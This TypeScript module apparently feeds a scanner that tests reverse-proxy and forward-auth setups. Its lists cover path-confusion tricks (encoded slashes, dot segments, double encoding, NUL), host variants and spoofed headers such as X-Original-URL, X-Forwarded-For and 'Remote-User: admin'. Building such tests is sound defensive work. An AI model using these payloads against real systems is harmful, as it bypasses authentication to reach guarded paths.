/** A way to write a request so that two programs take it for two. */
export interface Trick {
  readonly name: string;
  /** Further headers: names and values. */
  readonly headers?: (target: { readonly host: string; readonly open: string }) => readonly string[];
  /** The path in the request line, for a path that is guarded and one that is open. */
  readonly path?: (target: { readonly guarded: string; readonly open: string; readonly host: string }) => string;
  /** The value of Host. */
  readonly host?: (host: string) => string;
}

const last = (path: string): string => path.replace(/^.*\//, "");

/** Ways to write a path. */
export const PATH_TRICKS: readonly Trick[] = [
  { name: "encoded slash", path: ({ guarded, open }) => `${open}%2f..${guarded}` },
  { name: "encoded slash below", path: ({ open }) => `${open}%2fx` },
  { name: "parameter and dots", path: ({ guarded, open }) => `${open}/..;${guarded}` },
  { name: "encoded parameter and dots", path: ({ guarded, open }) => `${open}/..%3b${guarded}` },
  { name: "double slash", path: ({ guarded }) => `/${guarded}` },
  { name: "capitals", path: ({ guarded }) => guarded.toUpperCase() },
  { name: "dots", path: ({ guarded, open }) => `${open}/..${guarded}` },
  { name: "dots back", path: ({ guarded, open }) => `${guarded}/..${open}` },
  { name: "encoded dots", path: ({ guarded, open }) => `${open}/%2e%2e${guarded}` },
  { name: "half-encoded dots", path: ({ guarded, open }) => `${open}/.%2e${guarded}` },
  { name: "twice-encoded dots", path: ({ guarded, open }) => `${open}/%252e%252e${guarded}` },
  { name: "encoded letter", path: ({ guarded }) => guarded.replace(/\/(.)/, (_all, char) => `/%${hex(char)}`) },
  { name: "backslash", path: ({ guarded, open }) => `${open}\\..\\${last(guarded)}` },
  { name: "encoded backslash", path: ({ guarded, open }) => `${open}%5c..%5c${last(guarded)}` },
  { name: "dot", path: ({ guarded }) => `/.${guarded}` },
  { name: "parameter", path: ({ guarded }) => `${guarded};x=/api` },
  { name: "NUL", path: ({ guarded, open }) => `${open}%00/..${guarded}` },
  { name: "question mark", path: ({ guarded, open }) => `${open}%3f/..${guarded}` },
  { name: "number sign", path: ({ guarded, open }) => `${open}%23/..${guarded}` },
  { name: "open path in the query", path: ({ guarded, open }) => `${guarded}?x=${open}` },
  { name: "absolute form", path: ({ guarded, host }) => `https://${host}${guarded}` },
  {
    name: "absolute form of another name",
    path: ({ guarded, host }) => `https://${host.replace(/^\w+/, "blog")}${guarded}`,
  },
];

/** Ways to write the name. */
export const HOST_TRICKS: readonly Trick[] = [
  { name: "dot behind the name", host: (host) => `${host}.` },
  { name: "port", host: (host) => `${host}:443` },
  { name: "other port", host: (host) => `${host}:8080` },
  { name: "capitals in the name", host: (host) => host.toUpperCase() },
];

/** Headers that say something else than the request. */
export const HEADER_TRICKS: readonly Trick[] = [
  { name: "X-Forwarded-Uri", headers: ({ open }) => ["X-Forwarded-Uri", open] },
  {
    name: "X-Forwarded-Host and -Uri",
    headers: ({ host, open }) => ["X-Forwarded-Host", host.replace(/^\w+/, "vault"), "X-Forwarded-Uri", open],
  },
  {
    name: "X-Forwarded-Host of an open name",
    headers: ({ host }) => ["X-Forwarded-Host", host.replace(/^\w+/, "blog"), "X-Forwarded-Uri", "/"],
  },
  { name: "X-Forwarded-Method", headers: () => ["X-Forwarded-Method", "OPTIONS"] },
  { name: "X-Original-URL", headers: ({ host, open }) => ["X-Original-URL", `https://${host}${open}`] },
  { name: "X-Rewrite-Url", headers: ({ open }) => ["X-Rewrite-Url", open] },
  { name: "Forwarded", headers: ({ host }) => ["Forwarded", `for=192.168.1.50;host=${host.replace(/^\w+/, "blog")}`] },
  { name: "Remote-User", headers: () => ["Remote-User", "admin", "Remote-Groups", "admins"] },
  { name: "Remote_User", headers: () => ["Remote_User", "admin", "Remote_Groups", "admins"] },
  { name: "X-Forwarded-For of the LAN", headers: () => ["X-Forwarded-For", "192.168.1.50"] },
  { name: "X-Forwarded-For of the proxy", headers: () => ["X-Forwarded-For", "127.0.0.1, 192.168.1.2"] },
  { name: "X-Real-Ip", headers: () => ["X-Real-Ip", "192.168.1.50"] },
  { name: "Connection: X-Forwarded-For", headers: () => ["Connection", "keep-alive, X-Forwarded-For"] },
  {
    name: "Connection: X-Forwarded-Uri",
    headers: () => ["Connection", "keep-alive, X-Forwarded-Uri, X-Forwarded-Host"],
  },
  { name: "Connection: Remote-User", headers: () => ["Connection", "keep-alive, Remote-User, Cookie"] },
  { name: "X-Forwarded-Proto", headers: () => ["X-Forwarded-Proto", "http"] },
  { name: "X-Forwarded-Port", headers: () => ["X-Forwarded-Port", "80"] },
];

function hex(char: string): string {
  return char.charCodeAt(0).toString(16);
}
